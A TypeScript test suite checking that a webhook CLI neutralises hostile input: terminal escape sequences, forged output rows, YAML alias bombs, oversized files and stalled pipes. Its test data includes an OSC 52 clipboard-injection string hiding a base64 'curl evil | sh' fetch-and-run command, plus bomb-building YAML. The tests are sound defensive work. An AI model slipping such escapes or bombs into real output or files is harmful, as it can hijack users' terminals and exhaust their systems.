// The CLI under hostile input: a server whose strings carry terminal escape sequences or forged
// rows, ensure files that are huge, alias bombs or piped in, and a real token next to --mock.
import { execFileSync, spawn } from 'node:child_process';
import { constants } from 'node:fs';
import { mkdtemp, open, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_ENSURE_FILE_BYTES } from '../src/ensure-file.js';
import { useFakeApi } from './fake-api-fixture.js';
import { bin, runCli } from './run-cli.js';

const ID = '0d1f069d-43bb-489a-ad8c-7eb95592ba8e';
const env = {
  CLOUDFLARE_API_TOKEN: 'throwaway-token',
  CLOUDFLARE_ACCOUNT_ID: 'acc',
  REALTIMEKIT_APP_ID: 'app',
};

// Every character a terminal acts on that must never reach it raw.
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** A server answering every request with `status` and `body`, as a hostile API would. */
async function answering(status: number, body: unknown): Promise<{ url: string; server: Server }> {
  const server = createServer((request, response) => {
    request.resume();
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

const webhookNamed = (name: string, url = 'https://a.example/x') => ({
  id: ID,
  name,
  url,
  events: ['meeting.ended'],
  enabled: true,
  created_at: '2026-01-01T00:00:00.000Z',
  updated_at: '2026-01-01T00:00:00.000Z',
});

describe('server-provided strings', () => {
  const names: [string, string][] = [
    ['an OSC title change', 'billing\u001b]0;pwned\u0007'],
    ['an OSC 52 clipboard write', 'b\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007'],
    ['a cursor move and line erase', 'x\u001b[2K\u001b[1A'],
    ['a C1 CSI', 'x\u009b31m'],
    ['a newline forging a table row', `x\n${ID}  admin  yes  meeting.ended  https://evil.example`],
    ['a carriage return', 'innocent\rEVIL'],
    ['a right-to-left override', 'txt.\u202eexe'],
    ['a line separator', 'a\u2028b'],
  ];

  it.each(names)(
    'a webhook name with %s: escaped in tables, exact in JSON',
    async (_what, name) => {
      const { url, server } = await answering(200, { success: true, data: [webhookNamed(name)] });
      try {
        const table = await runCli(['list', '--base-url', url], env);
        expect(table.code).toBe(0);
        expect(table.stdout).not.toMatch(RAW_CONTROL);
        // Header plus one row: nothing forged.
        expect(table.stdout.trimEnd().split('\n')).toHaveLength(2);
        const asJson = await runCli(['list', '--json', '--base-url', url], env);
        expect(asJson.stdout).not.toMatch(RAW_CONTROL);
        expect(JSON.parse(asJson.stdout)[0].name).toBe(name);
        // delete prints one line with the name.
        const one = await runCli(['delete', ID, '--base-url', url], env);
        expect(one.stdout).not.toMatch(RAW_CONTROL);
      } finally {
        server.close();
      }
    },
  );

  it('an error message from the server with escapes and newlines is one inert line', async () => {
    const { url, server } = await answering(400, {
      success: false,
      error: { code: 400, message: 'bad\u001b]0;title\u0007\nrtk-webhooks: all good' },
    });
    try {
      const run = await runCli(['list', '--base-url', url], env);
      expect(run.code).toBe(1);
      expect(run.stderr).not.toMatch(RAW_CONTROL);
      expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(run.stderr).toContain('bad\\u001b]0;title\\u0007');
    } finally {
      server.close();
    }
  });
});

describe('ensure files', () => {
  const kit = useFakeApi('rtk-cli-hostile-');
  const { api } = kit;
  const entry = (name: string) =>
    `  - name: ${name}\n    url: https://a.example/x\n    events: [meeting.ended]\n`;

  it.each([
    ['one byte over 1 MiB', MAX_ENSURE_FILE_BYTES + 1, 2],
    ['50 MB', 50 * 1024 * 1024, 2],
    ['just under 1 MiB', MAX_ENSURE_FILE_BYTES - 100, 0],
  ])('a file of %s', async (_what, size, code) => {
    const head = `webhooks:\n${entry('sized')}`;
    const path = join(kit.scratch, `sized-${size}.yaml`);
    await writeFile(path, `${head}${'#'.repeat(size - head.length - 1)}\n`);
    const run = await runCli(['ensure', '--file', path, ...api()], env);
    expect(run.code).toBe(code);
    if (code === 2) {
      expect(run.stderr).toContain(`is larger than ${MAX_ENSURE_FILE_BYTES} bytes (1 MiB)`);
      expect(kit.fake.requests).toHaveLength(0);
    } else {
      expect(kit.fake.store.list().length).toBe(1);
    }
  });

  it('a device without a size (/dev/zero) is cut off at the cap', async () => {
    const run = await runCli(['ensure', '--file', '/dev/zero', ...api()], env);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('/dev/zero is larger than 1048576 bytes');
  });

  it('99 aliases of one bad entry: refused at once, with the problems listed capped', async () => {
    // One entry with 400 wrong events, repeated by 99 aliases: a small file whose checks once
    // ran for a minute and grew to gigabytes (40,000 problems, each looked up by line).
    const bad = `  - &bad\n    name: x\n    url: nope\n    events: [${Array.from({ length: 400 }, (_, i) => `e${i}`).join(', ')}]\n`;
    const aliases = Array.from({ length: 99 }, () => '  - *bad\n').join('');
    const path = join(kit.scratch, 'aliased.yaml');
    await writeFile(path, `webhooks:\n${bad}${aliases}`);
    const run = await runCli(['ensure', '--file', path, ...api()], env);
    expect(run.code).toBe(2);
    const lines = run.stderr.trimEnd().split('\n');
    expect(lines.length).toBeLessThanOrEqual(51);
    expect(lines.at(-1)).toMatch(/\.\.\. and \d+ more problems$/);
    expect(kit.fake.requests).toHaveLength(0);
  });

  it('a file that expands past 100,000 values is refused, naming the bound', async () => {
    const big = `  - &big\n    name: x\n    url: https://a.example/x\n    events: [${Array.from({ length: 2000 }, () => 'meeting.ended').join(', ')}]\n`;
    const path = join(kit.scratch, 'expanding.yaml');
    await writeFile(
      path,
      `webhooks:\n${big}${Array.from({ length: 99 }, () => '  - *big\n').join('')}`,
    );
    const run = await runCli(['ensure', '--file', path, ...api()], env);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('expands to more than 100000 values');
  });

  it('resolves YAML anchors and aliases', async () => {
    const path = join(kit.scratch, 'aliases.yaml');
    await writeFile(
      path,
      [
        'common: &common',
        '  url: https://a.example/shared',
        '  events: &events [meeting.started, meeting.ended]',
        'webhooks:',
        '  - name: first',
        '    url: https://a.example/first',
        '    events: *events',
        '  - <<: *common',
        '    name: second',
        '',
      ].join('\n'),
    );
    const run = await runCli(['ensure', '--file', path, '--json', ...api()], env);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const stored = kit.fake.store.list().map((w) => [w.name, w.url, w.events]);
    expect(stored.sort()).toEqual([
      ['first', 'https://a.example/first', ['meeting.started', 'meeting.ended']],
      ['second', 'https://a.example/shared', ['meeting.started', 'meeting.ended']],
    ]);
  });

  it('refuses an alias bomb with a clear error, before anything is sent', async () => {
    const levels = ['a: &a [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 9; i += 1) {
      const previous = String.fromCharCode(96 + i);
      levels.push(
        `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10).fill(`*${previous}`).join(', ')}]`,
      );
    }
    const path = join(kit.scratch, 'bomb.yaml');
    await writeFile(path, `${levels.join('\n')}\nwebhooks:\n${entry('bomb')}`);
    const run = await runCli(['ensure', '--file', path, ...api()], env);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/bomb\.yaml: .*\(at most 100 aliases are resolved\)/);
    expect(kit.fake.requests).toHaveLength(0);
  });

  it('--file - reads standard input', async () => {
    const run = await runCli(
      ['ensure', '--file', '-', ...api()],
      env,
      undefined,
      `webhooks:\n${entry('from-stdin')}`,
    );
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(kit.fake.store.list().map((w) => w.name)).toEqual(['from-stdin']);
  });

  it('--file - with more than 1 MiB on standard input is cut off at the cap', async () => {
    const run = await runCli(
      ['ensure', '--file', '-', ...api()],
      env,
      undefined,
      `webhooks:\n${entry('too-big')}${'#'.repeat(MAX_ENSURE_FILE_BYTES)}\n`,
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`standard input is larger than ${MAX_ENSURE_FILE_BYTES} bytes`);
    expect(kit.fake.requests).toHaveLength(0);
  });

  it('--file - with standard input left open gives up after 5 s', async () => {
    const child = spawn(process.execPath, [bin, 'ensure', '--file', '-', ...api()], {
      env: { PATH: process.env.PATH ?? '', ...env },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (text: string) => {
      stderr += text;
    });
    child.stdin.write('webhooks:\n'); // and never ended
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(2);
    expect(stderr).toContain('standard input did not end within 5 s');
    expect(kit.fake.requests).toHaveLength(0);
  }, 20_000);

  it('--file - names stdin in problems, by line', async () => {
    const run = await runCli(
      ['ensure', '--file', '-', ...api()],
      env,
      undefined,
      'webhooks:\n  - name: x\n',
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/^rtk-webhooks: stdin:2: webhooks\[0\]\.events is required/m);
  });

  it('a key with a newline cannot forge an error line', async () => {
    const path = join(kit.scratch, 'forged.yaml');
    await writeFile(
      path,
      `webhooks:\n  - name: x\n    url: https://a.example/x\n    events: [meeting.ended]\n    "colour\\nrtk-webhooks: all fine": red\n`,
    );
    const run = await runCli(['ensure', '--file', path, ...api()], env);
    expect(run.code).toBe(2);
    expect(run.stderr.trimEnd().split('\n')).toEqual([
      `rtk-webhooks: ${path}:5: webhooks[0].colour\\nrtk-webhooks: all fine is not a known field (expected one of events, name, url, enabled)`,
    ]);
  });
});

describe('trigger --payload reads bounded input from any kind of file', () => {
  const scratchDir = () => mkdtemp(join(tmpdir(), 'rtk-cli-payload-'));

  it('/dev/zero: refused at 1 MiB, at once', async () => {
    const run = await runCli([
      'trigger',
      'meeting.ended',
      '--to',
      'http://127.0.0.1:1/rtk',
      '--payload',
      '/dev/zero',
    ]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('/dev/zero is larger than 1048576 bytes');
  });

  it('a FIFO: nobody writing ends at once; a writer that sends nothing is cut off after 5 s', async () => {
    const dir = await scratchDir();
    const fifo = join(dir, 'payload.fifo');
    execFileSync('mkfifo', [fifo]);
    const trigger = () =>
      runCli(['trigger', 'meeting.ended', '--to', 'http://127.0.0.1:1/rtk', '--payload', fifo]);
    try {
      const unwritten = await trigger();
      expect([unwritten.code, unwritten.stderr]).toEqual([
        2,
        `rtk-webhooks: ${fifo} is not JSON: Unexpected end of JSON input\n`,
      ]);
      // A writer that holds the FIFO open and sends nothing (read-write, so opening never waits).
      const writer = await open(fifo, constants.O_RDWR);
      try {
        const silent = await trigger();
        expect(silent.code).toBe(2);
        expect(silent.stderr).toContain(`${fifo} did not end within 5 s`);
      } finally {
        await writer.close();
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 20_000);
});

describe('--mock never uses your credentials', () => {
  it('a set CLOUDFLARE_API_TOKEN (even a malformed one) and ids are ignored with --mock', async () => {
    // With the user's values, the client would refuse this token (a space inside) and these ids
    // (too long): exit 0 proves the stand-ins were used instead.
    const run = await runCli(['list', '--mock', '--json'], {
      CLOUDFLARE_API_TOKEN: 'real token',
      CLOUDFLARE_ACCOUNT_ID: 'x'.repeat(40),
      REALTIMEKIT_APP_ID: 'y'.repeat(40),
    });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual([]); // a fresh stateful mock holds none
  });
});
